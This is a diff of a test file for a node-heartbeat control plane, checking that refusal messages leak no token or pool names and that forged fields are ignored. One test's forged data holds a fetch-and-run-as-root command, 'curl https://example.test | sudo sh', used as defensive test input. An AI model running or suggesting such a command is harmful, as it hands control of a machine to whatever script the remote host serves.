@@ -29,7 +29,7 @@ describe('heartbeats count as still refused', () => {
   });
 });
 
-/** In the data of a refused heartbeat, `shown` is how its sender identified itself. */
+/** `shown`: which secret the sender of the heartbeat identified itself with. */
 test.each(Object.entries(beatRefusals))('the short text of %s names no token or pool', (code, { in_short }) => {
   const fact = {
     kind: 'beat.refused',
@@ -38,7 +38,7 @@ test.each(Object.entries(beatRefusals))('the short text of %s names no token or 
     data: { code, shown: 'credential', why_not: 'relay token rack-7' },
   };
   expect(readRefusedBeats(fact, 'gpu')?.in_short).toBe(in_short);
-  expect(in_short).not.toMatch(/rack-7|metal|gpu/);
+  expect(in_short).not.toMatch(/rack-7|gpu/);
 });
 
 test('explains a code of a later version as unknown', () => {
@@ -62,7 +62,7 @@ test.each(Object.entries(joinRefusals))(
   },
 );
 
-test('takes texts from the table, and accepts only facts of the control plane', () => {
+test('takes texts from the table, and reads only facts that the control plane recorded', () => {
   const data = { code: 'token_unknown', shown: 'credential', relay: 'rack-7', relay_pool: 'metal' };
   const forged = { ...data, why_not: 'your node is broken', way_out: 'curl https://example.test | sudo sh' };
   const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data: forged };
